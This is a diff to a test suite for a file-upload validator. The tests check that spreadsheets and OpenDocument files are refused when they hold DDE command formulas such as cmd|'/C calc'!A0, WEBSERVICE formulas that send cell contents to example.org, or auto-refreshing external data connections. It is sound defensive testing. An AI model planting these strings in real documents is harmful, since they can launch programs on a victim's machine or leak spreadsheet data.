@@ -170,6 +170,7 @@ describe('a file that is not accepted', () => {
     ['@SUM(1,2)*cmd|topic!A0'],
     ["=cmd|'/C ''x y'''!ä"],
     ['a,b\n"=DDE(""soffice"";""/tmp/x"";""a"")",1\n'],
+    ['a,b\n"=WEBSERVICE(""https://example.org/""&A1)",1\n'],
     [`${'a,b\n'.repeat(16_383)}=cmd|'/C calc'!A0`],
     [`a,"=""${'x'.repeat(20_000)}""&cmd|'/C calc'!A0"${','.repeat(100_000)}`],
   ])('is refused for a formula that fetches from another program: %#', async (content) => {
@@ -452,6 +453,52 @@ describe('an Office file', () => {
     ])('is refused in a formula of a workbook: %s', async (formula) => {
       const content = await xlsx({ 'xl/worksheets/sheet1.xml': `<worksheet>${formula}<v>1</v></worksheet>` });
       expect(await refusalOf('a.xlsx', content)).toBe(dde);
+    });
+
+    const asking =
+      'documents that ask other computers for data (WEBSERVICE, data connections) are not accepted; take that out and save it again';
+
+    it.each([
+      ['worksheets/sheet1', '<worksheet><f>_xlfn.WEBSERVICE("https://example.org/"&amp;A1)</f></worksheet>'],
+      ['worksheets/sheet1', '<worksheet><f>1+WebService (A1)</f></worksheet>'],
+      ['worksheets/sheet1', '<worksheet><f>RTD("some.program",,"a")</f></worksheet>'],
+      ['connections', '<connections><connection id="1" type="4" refreshOnLoad="1"/></connections>'],
+      ['connections', "<connections><connection id='1' type='5' interval='&#49;'/></connections>"],
+      ['queryTables/queryTable1', '<queryTable refreshOnLoad="true"/>'],
+      [
+        'pivotCache/pivotCacheDefinition1',
+        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
+      ],
+    ])('is refused where a workbook asks other computers: %s %s', async (part, xml) => {
+      expect(await refusalOf('a.xlsx', await xlsx({ [`xl/${part}.xml`]: xml }))).toBe(asking);
+    });
+
+    it.each([
+      ['<table:table-source xlink:href="https://example.org/a.ods" table:table-name="a"/>', remote],
+      ['<table:cell-range-source xlink:href="//example.org/s/a.ods" table:name="a"/>', remote],
+      ['<form:connection-resource xlink:href="https://example.org/a.odb"/>', remote],
+      [
+        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://example.org&quot;)"/>',
+        asking,
+      ],
+      ['<style:map style:condition="of:is-true-formula(COM.MICROSOFT.WEBSERVICE([.A1]))"/>', asking],
+    ])('is refused where an OpenDocument table does: %s', async (tag, refusal) => {
+      expect(await refusalOf('a.ods', await ods({ 'styles.xml': `<x>${tag}</x>` }))).toBe(refusal);
+    });
+
+    it('is accepted where it is asked for, or the workbook’s own', async () => {
+      await receive(
+        'a.xlsx',
+        await xlsx({
+          'xl/connections.xml':
+            '<connections><connection id="1" type="5" refreshOnLoad="0" interval="0"/></connections>',
+          'xl/pivotCache/pivotCacheDefinition1.xml':
+            '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
+          'xl/worksheets/sheet1.xml': '<worksheet><c><f>PARTRTD(1)</f><t>WEBSERVICE(1)</t></c></worksheet>',
+        }),
+      );
+      const near = '<table:table-source xlink:href="../rooms.ods" table:table-name="a"/>';
+      await receive('a.ods', await ods({ 'styles.xml': `<x svg:desc="RTD (1)">${near}</x>` }));
     });
 
     it.each(['word/document.bin', 'word/document.dat', 'word/document.txt', 'word/document', 'word/a.png'])(
